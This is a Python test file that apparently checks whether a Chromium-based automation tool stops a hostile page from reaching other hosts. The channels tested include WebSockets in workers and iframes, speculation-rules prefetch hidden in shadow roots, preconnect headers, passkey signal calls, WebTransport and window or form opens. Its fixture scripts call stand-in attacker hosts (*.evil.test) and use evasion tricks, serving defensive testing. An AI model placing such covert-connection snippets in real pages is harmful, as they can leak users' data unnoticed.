"""Ways to other hosts that are no requests, or that no rule is asked about: taken from pages."""

import json
import socket

import pytest
from hostile import API, audited, blob, framed, page, reports
from signed import signed
from test_ways_out import assert_kept, elsewhere

from auditor.demo import Answer

SOCKET = "new WebSocket('wss://{tag}.evil.test/');"
NESTED = f"new Worker({blob(SOCKET.format(tag='nested'))});"
SOCKETS = f"""
{SOCKET.format(tag="page")}
new Worker({blob(SOCKET.format(tag="blob"))});
new Worker({blob(SOCKET.format(tag="module"))}, {{type: "module"}});
new Worker("data:text/javascript," + encodeURIComponent({json.dumps(SOCKET.format(tag="data"))}));
new Worker({blob(NESTED)});
new Worker("/worker.js");
new Worker("/worker.js?module", {{type: "module"}});
"""
WORKER = f"""
fetch("/ran?worker");
{SOCKET.format(tag="fromfile")}
{NESTED}
new Worker("/nested.js");
"""


IN_FRAMES = f"""
<iframe srcdoc="{framed(SOCKET.format(tag="srcdoc"))}"></iframe>
<iframe sandbox=allow-scripts srcdoc="{framed(SOCKET.format(tag="sandboxed"))}"></iframe>
<iframe src="data:text/html,{framed(SOCKET.format(tag="dataframe"))}"></iframe>
"""


def test_no_worker_and_no_frame_of_the_page_opens_a_socket(serve):
    """Workers of every kind, and frames without an address, reach no other host by a socket."""
    scripts = {"/worker.js": WORKER, "/nested.js": SOCKET.format(tag="nestedfile")}

    def override(asked):
        script = scripts.get(asked.path.partition("?")[0])
        return Answer(script, content_type="text/javascript") if script else elsewhere(asked)

    server, done, _ = audited(serve, page(SOCKETS, IN_FRAMES), override)
    assert_kept(server, done)
    assert {"worker"} == reports(server)
    assert {"www.linkedin.com"} == server.greeted


def fetch_ahead(tag):
    """Rules by which Chromium fetches a page of another host before anybody asks for it."""
    listed = {"source": "list", "urls": [f"https://{tag}.evil.test/"], "eagerness": "immediate"}
    return json.dumps({"prefetch": [listed]})


AHEAD = f"""
const add = (into, text) => {{
  const script = Object.assign(document.createElement("script"), {{type: "speculationrules"}});
  script.textContent = text;
  into.append(script);
  return into;
}};
add(document.head, {json.dumps(fetch_ahead("added"))});
document.body.append(add(document.createElement("div"), {json.dumps(fetch_ahead("inside"))}));
const late = document.head.appendChild(document.createElement("script"));
late.type = " SpeculationRules ".trim();
late.textContent = {json.dumps(fetch_ahead("filled"))};
const root = document.createElement("div").attachShadow({{mode: "closed"}});
document.body.append(root.host);
add(root, {json.dumps(fetch_ahead("shadowed"))});
root.append(add(document.createElement("p"), {json.dumps(fetch_ahead("within"))}));
const first = document.createElement("div");
first.attachShadow({{mode: "open", clonable: true}});
const copy = document.createElement("p").appendChild(first.cloneNode(true));
document.body.append(copy.parentNode);
add(copy.shadowRoot, {json.dumps(fetch_ahead("cloned"))});
document.querySelector = () => null;
Element.prototype.remove = () => 0;
add(document.head, {json.dumps(fetch_ahead("unseen"))});
"""


def test_no_page_is_fetched_ahead(serve):
    """Rules for fetching pages ahead, in the page or named by a header, are not followed."""
    rules = Answer(fetch_ahead("header"), content_type="application/speculationrules+json")

    def override(asked):
        return rules if asked.path == "/rules.json" else elsewhere(asked)

    inline = f"<script type=speculationrules>{fetch_ahead('inline')}</script>"
    headers = (("speculation-rules", '"/rules.json"'),)
    server, done, _ = audited(serve, page(AHEAD, inline), override, headers=headers)
    assert_kept(server, done)
    assert {"www.linkedin.com"} == server.greeted


# Chromium itself asks the host that a page names whether it knows a passkey's (`signal…`).
SIGNALS = """
const signal = { rpId: "signal.evil.test", credentialId: "eA", userId: "eA",
  allAcceptedCredentialIds: [] };
const everywhere = [globalThis, document.body.appendChild(document.createElement("iframe"))
  .contentWindow];
for (const one of everywhere) {
  one.PublicKeyCredential?.signalUnknownCredential?.(signal).catch(() => 0);
  one.PublicKeyCredential?.signalAllAcceptedCredentials?.(signal).catch(() => 0);
}
"""


def test_no_host_is_asked_about_passkeys(serve):
    """What a page tells the browser of passkeys asks no other host."""
    server, done, _ = audited(serve, page(SIGNALS), elsewhere)
    assert_kept(server, done)
    assert {"www.linkedin.com"} == server.greeted


@pytest.mark.parametrize("path", ["a blob", "/worker.js"])
def test_no_worker_opens_a_stream_to_another_host(serve, path):
    """A worker, which has WebTransport, reaches no other host by it."""
    script = "new WebTransport('https://stream.evil.test/').closed.catch(() => 0);"
    started = f"new Worker({blob(script) if path == 'a blob' else repr(path)});"

    def override(asked):
        if asked.path == "/worker.js":
            return Answer(script, content_type="text/javascript")
        return elsewhere(asked)

    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as packets:
        server, done, _ = audited(serve, page(started), override, listening=packets)
        packets.setblocking(False)
        assert_kept(server, done)
        with pytest.raises(BlockingIOError):
            packets.recv(1)


OPENS = """
for (const at of ["https://window.evil.test/", "/leads-away"]) window.open(at);
const link = Object.assign(document.createElement("a"), {href: "https://link.evil.test/"});
document.body.append(Object.assign(link, {target: "_blank", rel: "noopener"}));
link.click();
const form = Object.assign(document.createElement("form"), {action: "https://form.evil.test/"});
document.body.append(Object.assign(form, {target: "_blank"}));
form.submit();
"""


def test_a_page_opens_no_window_by_itself(serve):
    """The host of a window that nobody asked for does not even see a connection."""
    server, done, _ = audited(serve, page(OPENS), elsewhere)
    assert_kept(server, done)
    assert {"www.linkedin.com"} == server.greeted
    assert not [asked for asked in server.seen if asked.path == "/leads-away"]


CONNECTS = "<link rel=preconnect href='https://connect.evil.test'>"


@pytest.mark.parametrize("kept", [False, True], ids=["thrown away", "kept"])
def test_no_connection_is_opened_ahead(serve, tmp_path, kept):
    """What a page wants connected or fetched ahead is left, also where the profile is kept."""
    inline = f"<script type=speculationrules>{fetch_ahead('inline')}</script>"
    headers = (("link", "<https://header.evil.test>; rel=preconnect"),)
    more = ("--profile", str(tmp_path / "kept")) if kept else ()
    html = page(more=CONNECTS + inline)
    server, done, _ = audited(serve, html, elsewhere, *more, headers=headers)
    assert_kept(server, done)
    assert {"www.linkedin.com"} == server.greeted


def test_no_socket_saves_a_setting(serve):
    """Nor is one opened to LinkedIn's own hosts: what is sent by it no rule would see."""
    opens = f"new WebSocket('{API.replace('https', 'wss')}?{{tag}}');"
    scripts = "".join(
        f"new Worker({start});" for start in (blob(opens.format(tag="blob")), "'/worker.js'")
    )

    def override(asked):
        if asked.path == "/worker.js":
            return Answer(opens.format(tag="file"), content_type="text/javascript")
        return elsewhere(asked)

    in_frame = f'<iframe srcdoc="{framed(opens.format(tag="srcdoc"))}"></iframe>'
    html = page(f"try {{ {opens.format(tag='page')} }} catch {{}} {scripts}", in_frame)
    server, done, _ = audited(serve, html, override)
    assert "on" == done.result["state"]
    assert [] == [asked.path for asked in server.seen if asked.path.startswith("/mysettings-api")]
    assert "/worker.js" in {asked.path for asked in server.seen}


FRAMES = """addEventListener("load", () => {
  let times = 0;
  const one = () => {
    const frame = document.body.appendChild(document.createElement("iframe"));
    frame.src = `/signed?${times}`;
    if ((times += 1) < 14) setTimeout(one, 60);
  };
  one();
});"""


def test_nobody_is_asked_for_the_certificate_of_a_page(serve):
    """Of a page that says who signed it, which Chromium asks of any host, nothing is taken."""
    server, done, _ = audited(
        serve,
        page(FRAMES),
        lambda asked: (
            signed("https://signer.evil.test/cert?jane")
            if asked.path.startswith("/signed")
            else elsewhere(asked)
        ),
    )
    assert "on" == done.result["state"]
    assert 14 == len([asked for asked in server.seen if asked.path.startswith("/signed")])
    assert {"www.linkedin.com"} == server.greeted
